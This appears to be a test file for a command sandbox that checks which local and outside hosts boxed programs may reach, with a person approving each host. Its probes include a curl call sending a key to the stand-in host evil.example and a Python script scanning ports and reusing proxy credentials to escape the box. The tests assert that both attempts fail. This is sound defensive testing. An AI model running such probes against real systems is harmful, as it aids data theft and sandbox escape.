/** What programs in a real box reach: real servers of this machine, as far as a person allows them. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { chmodSync, existsSync, readdirSync, readFileSync, readlinkSync } from 'node:fs';
import { createServer, type RequestListener, type Server } from 'node:http';
import { createServer as createSecure } from 'node:https';
import type { AddressInfo } from 'node:net';
import { delimiter, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { eventually } from '../../eventually.ts';
import { tar } from '../../fakes/tarFile.ts';
import { skipBecause } from '../../skipBecause.ts';
import { temporaryRun } from '../tools/temporaryRun.ts';
import { type Boxed, boxedRun, itBoxed } from './boxed.ts';

const binaries = fileURLToPath(new URL('../../../node_modules/.bin', import.meta.url));

describe('the network of a boxed command', () => {
  let servers: Server[];
  let seen: string[];
  beforeEach(() => {
    servers = [];
    seen = [];
  });
  afterEach(() => {
    for (const server of servers) {
      server.closeAllConnections();
      server.close();
    }
  });

  const listen = async (server: Server): Promise<number> => {
    servers.push(server);
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    return (server.address() as AddressInfo).port;
  };
  const serve = (answer: RequestListener): Promise<number> =>
    listen(
      createServer((request, response) => {
        seen.push(`${request.method} ${request.url}`);
        answer(request, response);
      }),
    );
  /** A box in which commands may reach these ports of localhost. */
  const allowing = (run: Boxed, ...ports: readonly number[]): Boxed => {
    const env = { ...run.context.env, PATH: `${binaries}${delimiter}${process.env['PATH']}` };
    const askHost = async ({ host, port, program }: { host: string; port: number; program: string }) =>
      host === 'localhost' && ports.includes(port) ? undefined : `Denied: ${program} may not.`;
    const ownHosts = () => ports.map(port => `localhost:${port}`);
    return boxedRun(run.finding, { env, askHost }, run, { ownHosts });
  };

  itBoxed('is none without anyone who decides', async run => {
    const port = await serve((_, response) => response.end('hello'));
    const ask = `env | grep -i proxy; curl -s http://127.0.0.1:${port}/`;
    const { code, out } = await run.sh(`curl --version > log && echo ready; ${ask}`);
    assert.notEqual(code, 0);
    assert.equal(out, 'ready');
    assert.deepEqual(seen, []);
    // The server is there for others.
    assert.equal(await (await fetch(`http://127.0.0.1:${port}/`)).text(), 'hello');
  });

  itBoxed('leads programs to a host that may be reached, and to no other', async run => {
    const port = await serve((request, response) => response.end(`hello ${request.url}`));
    const box = allowing(run, port);
    const lines = [
      `curl -sS http://localhost:${port}/curl`,
      `curl -sS --proxy "socks5h://\${http_proxy#http://}" --noproxy '' http://localhost:${port}/curl`,
      `python3 -c 'import urllib.request as u; print(u.urlopen("http://localhost:${port}/python").read())'`,
    ];
    for (const line of lines) {
      const { out, note } = await box.sh(line);
      assert.match(out, /hello \/(?:curl|python)/, line);
      assert.equal(note, undefined);
    }
    assert.equal((await box.sh('kill -TERM $$')).code, 143);
    assert.equal((await box.sh('exit 7')).code, 7);
    const { err, note } = await box.sh('curl -sS https://evil.example/?key=1; true');
    assert.match(err, /403/);
    assert.match(note ?? '', /nothing through to evil\.example:443: Denied: curl may not\./);
    assert.doesNotMatch(note ?? '', /key/);
    for (const way of ['--noproxy "*" http://127.0.0.1', '--proxy "" http://localhost', 'http://127.0.0.1'])
      assert.notEqual((await box.sh(`curl -s ${way}:${port}/direct`)).code, 0, way);
    assert.ok(seen.every(line => !line.includes('direct')));
  });

  itBoxed('is found without Perl too', async run => {
    const port = await serve((_, response) => response.end('hello'));
    const box = allowing(run, port);
    const env = { ...run.context.env, PATH: '/nowhere' };
    const { out, code } = await box.sh(`/usr/bin/curl -sS http://localhost:${port}/; exit 7`, { env });
    assert.deepEqual([out, code], ['hello', 7]);
  });

  it('leads through a port of this machine that asks for a password where the box is that of macOS', async () => {
    const run = temporaryRun();
    try {
      const port = await serve((request, response) => response.end(`hello ${request.url}`));
      const program = run.put('sandbox-exec', '#!/bin/sh\nprintf %s "$2" > profile; shift 2; exec "$@"\n');
      chmodSync(program, 0o755);
      const box = allowing(boxedRun({ works: true, kind: 'seatbelt', program }, {}, run), port);
      const page = `http://localhost:${port}`;
      const lines = [
        `curl -sS ${page}/granted; echo "$http_proxy" > proxy`,
        'curl -sS https://evil.example/; true',
        `curl -sS --proxy "http://127.0.0.1:\${http_proxy##*:}" --noproxy "" ${page}/guessed`,
      ];
      const { out, err, note } = await box.sh(lines.join('; '));
      assert.match(out, /^hello \/granted.*password in http_proxy is missing/s);
      assert.match(err, /403/);
      assert.match(note ?? '', /nothing through to evil\.example:443: Denied: curl may not\./);
      assert.deepEqual(seen, ['GET /granted']);
      const proxy = new URL(readFileSync(join(run.work, 'proxy'), 'utf8').trim());
      const profile = readFileSync(join(run.work, 'profile'), 'utf8');
      const opened = profile.split('\n').filter(line => /^\(allow [^(]*network/.test(line));
      assert.deepEqual(opened, [`(allow network-outbound (remote ip "localhost:${proxy.port}"))`]);
      // It ends with its command.
      assert.match((await box.sh(`curl -sS --proxy ${proxy} --noproxy "" ${page}/late`)).err, /connect/i);
    } finally {
      run.remove();
    }
  });

  itBoxed('leaves the servers of a command to it', async run => {
    const box = allowing(run);
    const script = `require("http").createServer((q, r) => r.end("own")).listen(8099, "127.0.0.1", () =>
      fetch("http://127.0.0.1:8099/").then(r => r.text()).then(t => { console.log(t); process.exit(); }))`;
    assert.equal((await box.sh(`node -e '${script}'`)).out, 'own');
  });

  itBoxed('is one for the commands of a conversation, but for their ways to hosts', async run => {
    const port = await serve((_, response) => response.end('granted'));
    const granted = allowing(run, port);
    const stop = new AbortController();
    const waits = `curl -sS http://localhost:${port}/first; echo "$http_proxy" > proxy; python3 -m http.server 8099 --bind 127.0.0.1`;
    const running = granted.sh(waits, { signal: stop.signal });
    try {
      await eventually(() => assert.ok(existsSync(join(run.work, 'proxy'))));
      const asks = `import os, urllib.request as u
login = (os.environ.pop('http_proxy', None) or 'http://box:guess@').split('//')[1].split('@')[0]
os.environ.update(no_proxy='', NO_PROXY='')
for line in open('/proc/net/tcp').read().splitlines()[1:]:
    words = line.split()
    if words[3] != '0A': continue
    at = '127.0.0.1:%d' % int(words[1].split(':')[1], 16)
    for name in at, login + '@' + at:
        way = u.build_opener(u.ProxyHandler({'http': 'http://' + name}))
        try: print(way.open('http://localhost:${port}/other', timeout=3).read())
        except OSError as error: print(at, error)`;
      run.put('work/asks.py', asks);
      const line = 'curl -sS --retry 50 --retry-delay 1 --retry-connrefused http://127.0.0.1:8099/asks.py';
      const other = allowing(run);
      assert.match((await other.sh(line)).out, /import os/);
      for (const box of [other, run]) {
        const { out } = await box.sh('python3 asks.py');
        assert.match(out, /HTTP Error 407/);
        assert.doesNotMatch(out, /granted/);
      }
      const elsewhere = boxedRun(run.finding, { env: granted.context.env }, run, {}, 'two');
      assert.notEqual((await elsewhere.sh('curl -sS http://127.0.0.1:8099/')).code, 0);
      const [network, processes] = (
        await run.sh('readlink /proc/self/ns/net; ls /proc | grep -c "^[0-9]"')
      ).out.split('\n');
      assert.notEqual(network, readlinkSync('/proc/self/ns/net'));
      assert.ok(Number(processes) < 8);
    } finally {
      stop.abort();
      await running.catch(() => undefined);
    }
    assert.deepEqual(seen, ['GET /first']);
  });

  itBoxed('is kept open for few conversations at a time, and as long as a command runs in it', async run => {
    const held = (): number =>
      readdirSync('/proc/self/fd').filter(file => {
        try {
          return readlinkSync(`/proc/self/fd/${file}`).startsWith('net:');
        } catch {
          return false;
        }
      }).length;
    if (!existsSync('/proc/self/fd')) return;
    const before = held();
    const inOne = boxedRun(run.finding, {}, run, {}, 'conversation that goes on');
    const running = inOne.sh('readlink /proc/self/ns/net; until [ -e go ]; do sleep 0.05; done');
    for (let each = 0; each < 12; each++)
      await boxedRun(run.finding, {}, run, {}, `conversation ${each}`).sh('true');
    assert.ok(held() - before <= 9, `${held() - before} networks`);
    const again = (await inOne.sh('readlink /proc/self/ns/net; touch go')).out.trim();
    assert.equal((await running).out.trim(), again);
  });

  itBoxed('is one of its own for each command where nothing can join another', async (run, context) => {
    if (run.finding.kind !== 'bubblewrap') return skipBecause(context, 'bubblewrap makes no box here');
    const features = { ...run.finding.features, perl: null };
    const alone = boxedRun({ ...run.finding, features }, {}, run);
    const line = 'readlink /proc/self/ns/net; sleep 0.5';
    const networks = await Promise.all([alone.sh(line), alone.sh(line)]);
    assert.equal(
      new Set([readlinkSync('/proc/self/ns/net'), ...networks.map(({ out }) => out.trim())]).size,
      3,
    );
  });

  itBoxed('clones a repository over TLS', async run => {
    const source = join(run.root, 'source');
    const git = (...args: string[]): string =>
      execFileSync('git', ['-c', 'user.name=A', '-c', 'user.email=a@b', ...args], { encoding: 'utf8' });
    git('init', '-q', source);
    run.put('source/a.txt', 'text');
    git('-C', source, 'add', '.');
    git('-C', source, 'commit', '-qm', 'one');
    git('-C', source, 'update-server-info');
    const files = ['-keyout', join(run.root, 'key.pem'), '-out', join(run.work, 'ca.crt')];
    execFileSync(
      'openssl',
      ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', ...files].concat([
        ...['-subj', '/CN=localhost', '-addext', 'subjectAltName=DNS:localhost', '-days', '2'],
      ]),
      { stdio: 'ignore' },
    );
    const key = readFileSync(join(run.root, 'key.pem'));
    const cert = readFileSync(join(run.work, 'ca.crt'));
    const port = await listen(
      createSecure({ key, cert }, (request, response) => {
        const file = join(
          source,
          '.git',
          new URL(request.url ?? '', 'http://a').pathname.replace('/r.git', ''),
        );
        if (existsSync(file)) response.end(readFileSync(file));
        else response.writeHead(404).end();
      }),
    );
    const { code, err } = await allowing(run, port).sh(
      `git -c http.sslCAInfo=ca.crt clone -q https://localhost:${port}/r.git copy`,
    );
    assert.equal(code, 0, err);
    assert.equal(readFileSync(join(run.work, 'copy/a.txt'), 'utf8'), 'text');
  });

  itBoxed('installs a package from a registry', async run => {
    const tarball = tar(
      { path: 'package/package.json', content: '{"name":"left-of","version":"1.0.0"}' },
      { path: 'package/index.js', content: 'module.exports = 42' },
    );
    const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
    const port: number = await serve((request, response) => {
      if (request.url?.endsWith('.tgz')) response.end(tarball);
      else if (request.url === '/left-of')
        response.end(
          JSON.stringify({
            name: 'left-of',
            'dist-tags': { latest: '1.0.0' },
            versions: {
              '1.0.0': {
                name: 'left-of',
                version: '1.0.0',
                dist: { tarball: `http://localhost:${port}/left-of.tgz`, integrity },
              },
            },
          }),
        );
      else response.writeHead(404).end('{}');
    });
    run.put('work/package.json', '{"name":"mine","version":"1.0.0"}');
    const { code, out, err } = await allowing(run, port).sh(
      `npm install --no-audit --no-fund --registry http://localhost:${port}/ left-of && node -p 'require("left-of")'`,
    );
    assert.equal(code, 0, err);
    assert.match(out, /42$/);
  });

  itBoxed('stands still while a person is asked, and ends with the command', async run => {
    const port = await serve((_, response) => response.end('late'));
    let withdrawn = 0;
    const box = boxedRun(
      run.finding,
      {
        askHost: ({ port: wanted }, signal) =>
          new Promise(settle => {
            if (wanted === port) setTimeout(() => settle(undefined), 1500);
            signal.addEventListener('abort', () => {
              withdrawn++;
              settle('Denied: it ended.');
            });
          }),
      },
      run,
      { ownHosts: () => [`localhost:${port}`] },
    );
    const { out } = await box.sh(`curl -sS http://localhost:${port}/`, {}, { timeoutMs: 1200 });
    assert.equal(out, 'late');
    await box.sh('curl -sS -m 1 http://held.example/');
    assert.equal(withdrawn, 2);
  });
});
